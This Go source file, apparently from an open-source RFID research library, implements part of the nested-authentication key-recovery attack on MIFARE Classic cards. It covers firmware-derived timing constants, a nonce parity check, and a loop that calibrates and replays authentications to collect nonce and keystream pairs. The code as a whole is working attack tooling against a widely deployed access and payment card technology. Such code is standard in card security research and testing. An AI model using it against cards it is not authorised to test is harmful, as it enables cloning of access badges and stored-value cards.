// go-hfcore
// Copyright (c) 2026 The go-hfcore Contributors.
// SPDX-License-Identifier: LGPL-3.0-or-later
//
// This file is part of go-hfcore.
//
// go-hfcore is free software; you can redistribute it and/or
// modify it under the terms of the GNU Lesser General Public
// License as published by the Free Software Foundation; either
// version 3 of the License, or (at your option) any later version.
//
// go-hfcore is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU
// Lesser General Public License for more details.
//
// You should have received a copy of the GNU Lesser General Public License
// along with go-hfcore; if not, write to the Free Software Foundation,
// Inc., 51 Franklin Street, Fifth Floor, Boston, MA  02110-1301, USA.

// Package attack drives the offline key-recovery attacks against MIFARE
// Classic: nonce validity checks, the nested-authentication calibration
// loop, and the hardnested partitioning driver, built on packages
// crypto1, mifare and hardnested.
package attack

import (
	"context"
	"fmt"

	hfcore "github.com/rfresearch/go-hfcore"
	"github.com/rfresearch/go-hfcore/mifare"
	"github.com/rfresearch/go-hfcore/parity"
)

// Timing constants carried over from the device firmware's exact
// nested-authentication timing budget (armsrc/mifarecmd.c), rather than
// approximated: these set the window the nested attack measures and
// replays against.
const (
	AuthenticationTimeoutSSPCycles = 848
	PreAuthLeadtimeCycles          = 400
	NestedMaxTries                 = 12
)

// NestedConfig parameterizes a nested-authentication run.
type NestedConfig struct {
	KnownBlock   int
	KnownKeyType mifare.KeyType
	KnownKey     [6]byte

	TargetBlock   int
	TargetKeyType mifare.KeyType

	MaxTries int // defaults to NestedMaxTries if zero
}

// ValidNonce reports whether a candidate 32-bit nonce and its
// accompanying byte-parity bits are internally consistent: every byte of
// the nonce's odd parity must match the corresponding transmitted parity
// bit, the same check a reader performs before trusting a card's nT.
func ValidNonce(nonce uint32, parityBits uint8) bool {
	for i := 0; i < 4; i++ {
		b := byte(nonce >> uint((3-i)*8))
		want := (parityBits >> uint(3-i)) & 1
		if parity.OddParity8(b) != want {
			return false
		}
	}
	return true
}

// NestedResult is one nested-authentication reply from a NestedConfig
// run: the card UID and the two (nT, ks1) pairs. It carries no key.
type NestedResult struct {
	CUID uint32
	Nt0  uint32
	Ks10 uint32
	Nt1  uint32
	Ks11 uint32
}

// RunNested calibrates the nested-authentication timing window (first
// call with a free-running auth) then replays at that delay up to
// cfg.MaxTries times. It returns the first replay whose Nt0 differs from
// the calibration reply, or else the last successful replay, per
// armsrc/mifarecmd.c's calibrate-then-replay structure.
func RunNested(ctx context.Context, session *hfcore.Session, cfg NestedConfig) (*NestedResult, error) {
	maxTries := cfg.MaxTries
	if maxTries <= 0 {
		maxTries = NestedMaxTries
	}

	calibrated, err := mifare.Nested(ctx, session, cfg.KnownBlock, cfg.KnownKeyType,
		cfg.TargetBlock, cfg.TargetKeyType, true, cfg.KnownKey)
	if err != nil {
		return nil, fmt.Errorf("attack nested calibration: %w", err)
	}

	var last *NestedResult
	for try := 0; try < maxTries; try++ {
		r, err := mifare.Nested(ctx, session, cfg.KnownBlock, cfg.KnownKeyType,
			cfg.TargetBlock, cfg.TargetKeyType, false, cfg.KnownKey)
		if err != nil {
			continue
		}
		last = &NestedResult{CUID: r.CUID, Nt0: r.Nt0, Ks10: r.Ks10, Nt1: r.Nt1, Ks11: r.Ks11}
		if last.Nt0 != calibrated.Nt0 {
			// A distinct nT on replay means the nonce wasn't static;
			// the disambiguated pair is still usable for key recovery.
			break
		}
	}
	if last == nil {
		return nil, fmt.Errorf("attack nested: no usable response after %d tries", maxTries)
	}
	return last, nil
}
